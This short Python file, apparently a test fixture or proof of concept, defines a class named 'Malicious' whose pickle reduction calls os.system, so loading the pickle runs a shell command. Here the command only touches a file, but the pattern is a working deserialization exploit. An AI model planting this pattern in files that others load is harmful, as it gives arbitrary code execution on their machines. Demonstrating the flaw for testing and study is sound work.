"""A pickle that runs a program where it is read as one."""

import os
from pathlib import Path
from typing import Any


class Malicious:
    """
    :param path: the file that is made by whatever reads it
    """

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.system, (f"touch '{self.path}'",)
